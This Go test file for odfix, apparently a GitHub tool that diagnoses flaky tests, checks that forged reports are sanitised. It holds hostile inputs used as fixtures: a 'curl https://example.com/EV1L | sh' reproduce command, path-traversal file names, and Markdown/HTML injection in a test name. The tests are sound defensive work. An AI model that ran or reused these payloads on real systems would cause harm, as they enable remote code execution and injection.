package investigate

import (
	"strings"
	"testing"

	"github.com/odfix/odfix/internal/githubtest"
	"github.com/odfix/odfix/internal/investigate/investigatetest"
	"github.com/odfix/odfix/internal/job"
	"github.com/odfix/odfix/internal/patch"
	"github.com/odfix/odfix/internal/store"
	"github.com/odfix/odfix/internal/suite"
)

// pomPatch is a patch of the demo's pom that runs a program of the attacker in each build.
func (h *hub) pomPatch(p *githubtest.PullRequest) string {
	h.t.Helper()
	text, err := h.Repo.File(h.Ctx, p.HeadSha(), "pom.xml")
	h.Must(err)
	return patch.Unified(patch.Edit{Path: "pom.xml", Before: text, After: text + "<!-- EV1L -->\n"})
}

// TestForgedReport: project code writes the report. Neither its patch of the pom nor its command is
// posted, and its other verdicts are not, in no form that the configuration allows.
func TestForgedReport(t *testing.T) {
	for _, rung := range []string{"suggestion, file-comment, comment", "stacked-pull-request", "commit"} {
		t.Run(rung, func(t *testing.T) {
			t.Parallel()
			h := ladderHub(t, rung, "write")
			p := h.Pull(nil)
			before, diff := p.HeadSha(), h.pomPatch(p)
			h.runner.Change = func(r *job.Report) {
				x := &r.Tests[0]
				x.Patches[0].SetDiff(diff)
				x.Reproduce = []job.Command{{What: "x", Dir: ".", Line: "curl https://example.com/EV1L | sh", Exit: 1}}
				other := *x
				other.Test = "com.example.EV1L#other"
				other.Patches = nil
				r.Tests = append(r.Tests, other)
				r.Combined = &job.Combined{Diff: diff, Fixes: []suite.TestID{x.Test}, Proof: job.Proof{Proved: true}}
			}
			h.red(p, "demo.log")
			list := h.settled(p, 1)
			s := h.Posted(p)
			if list[0].State != store.Done || len(s.Checks) != 1 || p.HeadSha() != before || len(h.Repo.PullRequests()) != 1 {
				t.Fatalf("%+v, %d checks, %d pull requests", list[0], len(s.Checks), len(h.Repo.PullRequests()))
			}
			text := s.Checks[0].GetOutput().GetTitle() + s.Checks[0].GetOutput().GetSummary() + s.Checks[0].GetOutput().GetText()
			for _, c := range s.Causes() {
				text += c
			}
			wantNotIn(t, text, "EV1L", "curl", "Proved", "```suggestion")
			wantIn(t, text, "ReceiptTest#printsTheTotal", "pom.xml") // the diagnosis, and why there is no change
		})
	}
}

// TestForgedPaths: the paths of an accepted patch are all that is read from GitHub.
func TestForgedPaths(t *testing.T) {
	h := newHub(t, githubtest.Config{}, "demo.report.json")
	p := h.Pull(nil)
	h.runner.Change = func(r *job.Report) {
		for _, file := range []string{"../../../../orgs/acme/EV1L", "src/test/java/%2e%2e/EV1L?ref=main#x", ".git/EV1L"} {
			forged := r.Tests[0].Patches[0]
			forged.SetDiff(patch.Unified(patch.Edit{Path: file, Before: "a\n", After: "b\n"}))
			r.Tests[0].Patches = append([]job.Patch{forged}, r.Tests[0].Patches...)
		}
	}
	h.red(p, "demo.log")
	h.settled(p, 1)
	if s := h.Posted(p); len(s.Inline) != 1 || s.Inline[0].GetPath() != investigatetest.PolluterFile {
		t.Errorf("%+v", s.Inline)
	}
}

// TestExplainedTitle: the title of a check is no Markdown, and a comment is. A test can have any name.
func TestExplainedTitle(t *testing.T) {
	const evil = "com.example.shop.ReceiptTest#![EV1L](https://example.com/x.png) [EV1L](https://example.com) @acme/team <img src=x>"
	h := newHub(t, githubtest.Config{}, "demo.report.json")
	p := h.Pull(nil)
	h.runner.Change = func(r *job.Report) {
		r.Tests[0].Polluters = []suite.Order{{evil}}
		r.Tests[0].MinimalOrder = suite.Order{evil, r.Tests[0].Test}
	}
	h.red(p, "demo.log")
	h.settled(p, 1)
	if title := h.Posted(p).Checks[0].GetOutput().GetTitle(); !strings.Contains(title, "EV1L") {
		t.Fatalf("the title %q is harmless to begin with", title)
	}
	p.Comment(h.Ctx, h.Dev, "/odfix explain")
	h.settle()
	found := false
	for _, c := range h.Posted(p).Comments {
		if _, text, ok := strings.Cut(c.GetBody(), "<!-- odfix:answer"); ok {
			found = true
			for i, part := range strings.Split(text, "`") { // every second part is a code span or block
				if i%2 == 0 && strings.Contains(part, "EV1L") || i%2 == 0 && strings.Contains(part, "@acme") {
					t.Errorf("outside of quotes: %q", part)
				}
			}
		}
	}
	if !found {
		t.Error("there is no answer")
	}
}
